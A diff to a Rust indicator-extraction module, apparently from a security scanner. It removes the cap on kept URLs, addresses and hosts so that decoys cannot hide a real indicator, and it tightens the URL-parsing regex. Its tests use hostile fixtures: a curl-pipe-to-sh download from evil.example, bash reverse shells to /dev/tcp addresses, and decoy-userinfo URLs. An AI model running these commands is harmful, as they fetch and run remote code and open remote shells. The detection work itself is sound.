@@ -9,7 +9,7 @@ use serde::{Serialize, Serializer};
 
 use super::script::Script;
 
-/// What the scripts of one record name, each once and as it stands there.
+/// What the scripts of one record name, each once and as it stands there: all of it, because a decoy costs nothing.
 #[derive(Debug, Default, PartialEq)]
 pub struct Indicators {
     urls: BTreeSet<String>,
@@ -17,8 +17,6 @@ pub struct Indicators {
     hosts: BTreeSet<String>,
 }
 
-/// Indicators of one kind that are kept: more say nothing, and a script could hold any number.
-const MAX_INDICATORS: usize = 64;
 /// Bytes of one URL that are kept.
 const MAX_URL_BYTES: usize = 512;
 
@@ -46,7 +44,7 @@ impl Indicators {
             // User and password, parameters and fragment may be secrets, and say nothing of where it leads.
             let path = &url["path"];
             let end = path.floor_char_boundary(MAX_URL_BYTES);
-            keep(&mut self.urls, format!("{}://{}{}", &url["scheme"], &url["authority"], &path[..end]));
+            self.urls.insert(format!("{}://{}{}", &url["scheme"], &url["authority"], &path[..end]));
             if !NAMES_NO_HOST.contains(&url["scheme"].to_ascii_lowercase().as_str()) {
                 let (host, port) = url["authority"].rsplit_once(':').unwrap_or((&url["authority"], ""));
                 let has_port = port.bytes().all(|byte| byte.is_ascii_digit());
@@ -58,7 +56,7 @@ impl Indicators {
                 if let Ok(address) = found.as_str().parse()
                     && !goes_on(&text[found.end()..])
                 {
-                    keep(&mut self.addresses, address);
+                    self.addresses.insert(address);
                 }
             }
         }
@@ -70,9 +68,9 @@ impl Indicators {
     fn take_host(&mut self, host: &str) {
         let host = host.trim_matches(['[', ']', '.']);
         if let Ok(address) = host.parse() {
-            keep(&mut self.addresses, address);
+            self.addresses.insert(address);
         } else if host.contains('.') && host.bytes().any(|byte| byte.is_ascii_alphabetic()) {
-            keep(&mut self.hosts, host.to_ascii_lowercase());
+            self.hosts.insert(host.to_ascii_lowercase());
         }
     }
 }
@@ -83,12 +81,6 @@ fn goes_on(rest: &str) -> bool {
     match rest.next() {
         Some(b'.') => rest.next().is_some_and(|byte| byte.is_ascii_digit()),
         following => following.is_some_and(|byte| byte.is_ascii_alphanumeric()),
-    }
-}
-
-fn keep<T: Ord>(kept: &mut BTreeSet<T>, indicator: T) {
-    if kept.len() < MAX_INDICATORS {
-        kept.insert(indicator);
     }
 }
 
@@ -104,7 +96,7 @@ const NAMES_NO_HOST: [&str; 5] = ["s3", "s3a", "s3n", "gs", "file"];
 
 static URL: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?<scheme>[A-Za-z][A-Za-z0-9+.-]{1,20})://(?:[^\s/"'<>@]{0,512}@)?(?<authority>[A-Za-z0-9.:\[\]_-]{1,255})(?<path>[^\s?#"'<>|;)\]}`\\]*)"#,
+        r#"(?<scheme>[A-Za-z][A-Za-z0-9+.-]{1,20})://(?:[^\s/?#"'<>]*@)?(?<authority>[A-Za-z0-9.:\[\]_-]{1,255})(?<path>[^\s?#"'<>|;)\]}`\\]*)"#,
     )
 });
 
@@ -168,11 +160,16 @@ mod tests {
 
     #[test]
     fn a_script_names_urls_addresses_and_hosts() {
-        let cases: [(&str, Value); 11] = [
+        let cases: [(&str, Value); 13] = [
             (
                 "curl -fsSL 'https://me:pw@evil.example:8443/x.sh?token=abc#top' | sh",
                 json!(["https://evil.example:8443/x.sh", "evil.example"]),
             ),
+            (
+                &format!("curl https://{}@x:p@ss@evil.example/a", "decoy.example".repeat(50)),
+                json!(["https://evil.example/a", "evil.example"]),
+            ),
+            ("curl https://good.example?@evil.example/a", json!(["https://good.example", "good.example"])),
             ("wget http://203.0.113.9/a;", json!(["http://203.0.113.9/a", "203.0.113.9"])),
             ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", json!(["198.51.100.7"])),
             ("bash -i >& /dev/tcp/c2.example.net/443", json!(["c2.example.net"])),
@@ -211,11 +208,13 @@ mod tests {
     }
 
     #[test]
-    fn a_script_of_nothing_but_addresses_keeps_only_so_many() {
+    fn no_number_of_decoys_hides_an_indicator() {
         let named: Vec<String> =
             (0..2000).map(|number| format!("https://h{number}.example/x 10.0.{}.1", number % 250)).collect();
-        let text = named.join(" ");
-        let kept = serde_json::to_value(indicators_of(&text)).unwrap().as_array().unwrap().len();
-        assert_eq!(kept, 3 * MAX_INDICATORS);
+        let text = named.join(" ") + " curl http://evil.example/x";
+        let indicators = indicators_of(&text);
+        assert!(indicators.hosts().any(|host| host == "evil.example"));
+        let kept = serde_json::to_value(indicators).unwrap().as_array().unwrap().len();
+        assert_eq!(kept, 2000 + 1 + 250 + 2000 + 1);
     }
 }
